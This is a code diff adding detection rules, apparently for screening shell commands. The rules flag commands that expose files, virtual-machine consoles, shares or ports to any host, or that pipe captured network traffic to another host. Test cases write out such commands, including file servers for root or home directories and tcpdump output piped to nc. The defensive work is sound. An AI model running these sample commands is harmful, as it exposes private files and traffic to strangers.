@@ -12,6 +12,9 @@ const everywhere = "0.0.0.0 0.0.0.0:* [::] [::]:* tcp://0.0.0.0* http://0.0.0.0*
 // stores are the servers that give data to any client, or run a client's commands.
 const stores = "redis-server mongod mysqld mysqld_safe mariadbd postgres postmaster dockerd memcached etcd elasticsearch opensearch code-server cockroach consul nomad"
 
+// emulators are the programs that run a machine of QEMU.
+const emulators = "qemu-system-x86_64 qemu-system-aarch64 qemu-system-arm qemu-system-i386 qemu-system-riscv64 qemu-system-ppc64 qemu-system-s390x qemu-system-mips qemu-kvm kvm"
+
 // fileHosts are services that take a file from anybody and show it to whoever has the link, and
 // those that show their users what is sent to an address.
 const fileHosts = "*transfer.sh* *file.io* *0x0.st* *x0.at* *paste.rs* *ix.io* *bashupload.com* *temp.sh* *oshi.at* *catbox.moe* *gofile.io* *tmpfiles.org* *pastebin.com* *hastebin.com* *dpaste.com* *dpaste.org* " +
@@ -36,6 +39,64 @@ var exposure = []rules.Rule{
 		Hint:   "listen on 127.0.0.1",
 		Hits:   []string{"flask run --host=0.0.0.0", "frobnicate --bind=0.0.0.0:80", "frobnicate --listen=:8080"},
 		Misses: []string{"flask run --host=127.0.0.1", "flask run", "frobnicate"},
+	},
+	{
+		ID: "exposure.code-server", Class: rules.Exposure, Effect: grammar.Evaluates, Lang: "javascript",
+		Value:  "*createServer(*createReadStream(*url* *createServer(*readFile*(*url* *Deno.serve(*readFile*(*url* *Deno.serve(*Deno.open(*url* *Bun.serve(*Bun.file(*url* *static(*homedir()*listen(* *static('/')*listen(* *static(\"/\")*listen(* *static(process.env.HOME*listen(*",
+		Not:    "*listen(*127.0.0.1* *listen(*localhost* *hostname:*127.0.0.1* *hostname:*localhost*",
+		Reason: "sends every file that a request names to whoever asks",
+		Hint:   "listen on 127.0.0.1, and name the directory that others need",
+		Hits: []string{
+			`node -e "require('http').createServer((q,s)=>require('fs').createReadStream(q.url).pipe(s)).listen(8080)"`, `node -e "const e=require('express')();e.use(require('express').static(require('os').homedir()));e.listen(8080)"`,
+			`bun -e 'Bun.serve({port:8080,fetch(r){return new Response(Bun.file(new URL(r.url).pathname))}})'`, `deno eval 'Deno.serve(r => new Response(Deno.readFileSync(new URL(r.url).pathname)))'`,
+		},
+		Misses: []string{
+			`node -e "require('http').createServer((q,s)=>require('fs').createReadStream(q.url).pipe(s)).listen(8080,'127.0.0.1')"`, `node -e "require('http').createServer((q,s)=>s.end('ok')).listen(8080)"`, `node -e "require('http').createServer((q,s)=>require('fs').createReadStream('index.html').pipe(s)).listen(8080)"`,
+			`node -e "const e=require('express')();e.use(require('express').static('public'));e.listen(8080)"`, `bun -e 'Bun.serve({port:8080,fetch(r){return new Response(Bun.file("index.html"))}})'`,
+		},
+	},
+	{
+		ID: "exposure.code-server-go", Class: rules.Exposure, Program: "go goexec", Operand: `*http.FileServer(http.Dir("/*")* *http.FileServer(http.Dir(os.Getenv("HOME"))*`, NotOperand: "*127.0.0.1:* *localhost:*",
+		Reason: "sends every file of a home or of the machine to whoever asks",
+		Hint:   "listen on 127.0.0.1, and name the directory that others need",
+		Hits:   []string{`go run github.com/shurcooL/goexec 'http.ListenAndServe(":8080", http.FileServer(http.Dir("/")))'`},
+		Misses: []string{`go run github.com/shurcooL/goexec 'http.ListenAndServe("127.0.0.1:8080", http.FileServer(http.Dir("/")))'`, `go run github.com/shurcooL/goexec 'fmt.Println(1)'`, "go run ."},
+	},
+	{
+		ID: "exposure.machine-console", Class: rules.Exposure, Program: emulators, Any: "-vnc -monitor -qmp -spice -chardev -serial", Operand: "0.0.0.0:* [::]:* :* tcp:0.0.0.0:* tcp::*server* telnet:0.0.0.0:* telnet::* *addr=0.0.0.0* *host=0.0.0.0*server*", None: "--help -help",
+		Reason: "gives the screen or the monitor of a machine to every host",
+		Hint:   "listen on 127.0.0.1",
+		Hits:   []string{"qemu-system-x86_64 -hda x.qcow2 -vnc 0.0.0.0:0", "qemu-system-x86_64 -hda x.qcow2 -monitor tcp:0.0.0.0:4444,server,nowait", "qemu-system-x86_64 -hda x.qcow2 -spice port=5930,addr=0.0.0.0,disable-ticketing=on", "qemu-system-aarch64 -M virt -vnc :0"},
+		Misses: []string{"qemu-system-x86_64 -hda x.qcow2 -vnc 127.0.0.1:0", "qemu-system-x86_64 -hda x.qcow2 -monitor stdio -gdb tcp::1234", "qemu-system-x86_64 -hda x.qcow2 -nic user,hostfwd=tcp::2222-:22 -monitor stdio", "qemu-img info x.qcow2"},
+	},
+	{
+		ID: "exposure.machine-desktop", Class: rules.Exposure, Program: "VBoxManage", Sub: "modifyvm", Any: "--vrde=on --vrde-auth-type=null --vrdeauthtype=null --vrdeaddress=0.0.0.0 --vrde-address=0.0.0.0",
+		None:   "--vrdeauthtype=external --vrde-auth-type=external --vrdeaddress=127.0.0.1 --vrde-address=127.0.0.1 --help",
+		Reason: "gives the screen of a machine to every host without a password",
+		Hint:   "add --vrde-address 127.0.0.1",
+		Hits:   []string{"VBoxManage modifyvm db --vrde on --vrdeaddress 0.0.0.0 --vrdeauthtype null", "VBoxManage modifyvm db --vrde on"},
+		Misses: []string{"VBoxManage list vms", "VBoxManage modifyvm db --vrde off", "VBoxManage modifyvm db --vrde on --vrde-address 127.0.0.1", "VBoxManage modifyvm db --memory 2048"},
+	},
+	{
+		ID: "exposure.service-port", Class: rules.Exposure, NotLocal: true, Program: "docker", Sub: "service/update", Any: "--publish-add",
+		Reason: "lets every host at a port of the service",
+		Hint:   "`docker service inspect` shows its ports",
+		Hits:   []string{"docker service update --publish-add published=5432,target=5432 shop_db"},
+		Misses: []string{"docker service update --image web:2 web", "docker service inspect web", "docker service update --publish-rm 5432 shop_db"},
+	},
+	{
+		ID: "exposure.network-share", Class: rules.Exposure, Program: "net", Operand: "Everyone:* everyone:* *\\Everyone:* guest_ok=y guest_ok=yes guest=yes", Beside: "usershare conf",
+		Reason: "shares a directory of the machine with everyone on the network",
+		Hint:   "name the user who needs it: USER:R",
+		Hits:   []string{"net usershare add home /home/me '' Everyone:F guest_ok=y", "net conf addshare home /home/me writeable=y guest_ok=y"},
+		Misses: []string{"net usershare info", "net usershare add docs /home/me/docs '' me:R", "net conf list"},
+	},
+	{
+		ID: "exposure.traffic-sent", Class: rules.Exposure, Program: "tcpdump tshark dumpcap ngrep", OutputSent: true, None: "-r --read-file -D -h --help",
+		Reason: "sends what it records of the network to another host",
+		Hint:   "write it into a file with -w, and ask the user before you send it",
+		Hits:   []string{"tcpdump -i any -w - port 80 | nc 192.0.2.1 9000", "tshark -i any -w - | nc 192.0.2.1 9000", "dumpcap -i any -w - | ssh u@192.0.2.1 'cat > x.pcapng'"},
+		Misses: []string{"tcpdump -i lo -w out.pcap port 8080", "tcpdump -i lo -w - | tcpdump -r -", "tshark -r out.pcap -Y http", "tcpdump -i any -n | head"},
 	},
 	{
 		ID: "exposure.database-option", Former: "serve.store", Class: rules.Exposure, Program: stores,
